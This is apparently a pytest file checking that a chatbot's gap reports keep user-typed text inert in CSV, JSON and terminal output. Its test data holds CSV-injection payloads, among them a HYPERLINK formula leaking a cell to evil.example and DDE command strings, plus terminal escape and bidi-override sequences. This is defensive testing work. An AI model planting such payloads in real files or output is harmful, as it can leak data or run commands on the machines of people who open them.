"""What strangers typed stays inert in every report: no spreadsheet formula, no terminal escape."""

from __future__ import annotations

import csv
import io
import json

import pytest

from bot.log.gaps import Cluster
from bot.log.reports import gaps_csv, gaps_json, gaps_table, spreadsheet_cell, terminal_text


def gap(representative: str, *examples: str) -> Cluster:
    return Cluster(
        representative=representative,
        count=3,
        users=2,
        first_seen="2026-11-20T08:00:00.000+00:00",
        last_seen="2026-11-21T08:00:00.000+00:00",
        examples=[representative, *examples],
        nearest={"id": "fugong-zhuanchuang", "score": 0.4},
    )


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+2",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_never_start_a_formula(typed):
    raw = gaps_csv([gap(typed, typed)])
    row = next(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    for column in ("代表问题", "示例"):
        assert row[column].startswith("'"), row[column]
        assert row[column][1:].startswith(typed[:1])  # what was typed, shown as text


@pytest.mark.parametrize("value", ["公积金怎么提取", "2887项", 3, 0.4, -1, "", "a=b"])
def test_ordinary_cells_are_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_terminal_output_has_no_control_characters():
    sneaky = "公积金\x1b[2J\x1b]0;pwned\x07怎么提取\x9b31m\u202e反转"
    text = gaps_table([gap(sneaky, "营业执照\x1b[31m年报\r\n伪造的一行")])
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "\u202e" not in text and "\r" not in text
    assert "公积金" in text and "怎么提取" in text
    assert len(text.splitlines()) == 3  # the example's newline did not start a line of its own


def test_gaps_json_escapes_what_a_terminal_would_obey():
    sneaky = "公积金\x9b31m\u202e反转\x1b[2J"
    text = gaps_json([gap(sneaky)])
    assert not any(c in text for c in "\x9b\u202e\x1b"), text
    assert json.loads(text)["clusters"][0]["representative"] == sneaky


def test_terminal_text_keeps_ordinary_text():
    assert terminal_text("营业执照年报在哪报？ 2023年") == "营业执照年报在哪报？ 2023年"
